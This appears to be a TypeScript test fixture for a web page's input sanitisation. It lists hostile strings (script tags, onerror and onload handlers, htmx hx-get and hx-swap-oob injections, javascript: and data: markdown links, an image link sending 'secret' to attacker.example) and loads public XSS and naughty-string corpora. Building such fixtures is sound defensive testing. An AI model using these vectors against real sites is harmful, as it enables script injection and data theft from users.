import { existsSync, readFileSync } from "node:fs";
import { z } from "zod";

const CORPORA = new URL("../../shared/data/corpora/", import.meta.url);

/** What wants to run a script, to make htmx ask, or to fetch, written for the places of this page. */
export const OWN_TEXTS: readonly string[] = [
  "<script>window.hacked = 1</script>",
  "<img src=x onerror=window.hacked=1>",
  '"><svg/onload=window.hacked=1>',
  "'-window.hacked-'",
  "</title></textarea></style></template><img src=x onerror=window.hacked=1>",
  "</div></uar-run></uar-thread><uar-run run=x live></uar-run>",
  "<!--/lit-part--><!--lit-part AEmR7W+R0Ak=--><?lit$1$>",
  "<div hx-get=/trap hx-trigger=load hx-target=body>x</div>",
  "<div data-hx-get=/trap data-hx-trigger=load>x</div>",
  "<div hx-on::after-process=window.hacked=1 hx-on:load=window.hacked=1>x</div>",
  '<div id=composer hx-swap-oob=true>x</div><hx-partial hx-target="body">x</hx-partial>',
  "<form id=forms name=body action=/trap method=post><input name=attributes autofocus></form>",
  '<base href=/trap/><link rel=stylesheet href=/trap><meta http-equiv=refresh content="0;url=/trap">',
  "<iframe src=/trap srcdoc='<script>parent.hacked=1</script>'></iframe><object data=/trap></object>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=/trap onerror=window.hacked=1&gt;'>",
  "<style>*{display:none!important}@import '/trap';</style>",
  "![x](/trap) ![x](https://attacker.example/?q=secret) ![x](//attacker.example/x)",
  "[x](javascript:window.hacked=1) [x](java&#10;script:window.hacked=1) <javascript:window.hacked=1>",
  '[x](https://attacker.example/"onmouseover="window.hacked=1) [x](data:text/html,<script>1</script>)',
  "$\\href{javascript:window.hacked=1}{x}$ $\\class{x}{y}$ $\\htmlData{hx-get=/trap}{x}$",
  '```html"><script>window.hacked=1</script>\n</code></pre><script>window.hacked=1</script>\n```',
  "| <img src=/trap onerror=window.hacked=1> | [x](vbscript:x) |\n| --- | --- |\n| a | b |",
  "event: errors\ndata: {}\n\nid: 9.9\r\ndata: x\u2028data: y",
  "\u202Egnp.exe\u202C \u0000\u0007\u001B[31m \uFEFF a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
  `${"W".repeat(4_000)} ${"\u{1F468}\u200D\u{1F469}\u200D\u{1F467}".repeat(200)}`,
  `${"> ".repeat(200)}${"[".repeat(200)} ${"*a _b".repeat(100)}`,
  `${"- ".repeat(60)}deep\n\n${">- ".repeat(30)}deeper`,
];

const READERS: Readonly<Record<string, (text: string) => readonly string[]>> = {
  "xss/owasp-filter-evasion.txt": (text) => text.split("\n").filter((line) => line !== ""),
  "dompurify/expect.json": (text) =>
    z
      .array(z.object({ payload: z.string() }))
      .parse(JSON.parse(text))
      .map(({ payload }) => payload),
  "naughty-strings/blns.json": (text) => z.array(z.string()).parse(JSON.parse(text)),
};

/** The corpora by their name; nothing stands for one that this machine does not have. */
export function hostileCorpora(): ReadonlyMap<string, readonly string[] | undefined> {
  return new Map(
    Object.entries(READERS).map(([name, read]) => {
      const place = new URL(name, CORPORA);
      return [name, existsSync(place) ? read(readFileSync(place, "utf8")) : undefined];
    }),
  );
}
